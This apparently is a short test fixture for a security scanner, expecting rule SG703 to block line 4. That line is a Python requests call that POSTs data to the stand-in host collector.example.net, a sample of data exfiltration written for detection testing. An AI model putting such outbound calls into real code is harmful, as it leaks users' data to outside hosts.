# expect: block SG703@4
import requests

requests.request("POST", "https://collector.example.net/", data=b"x")
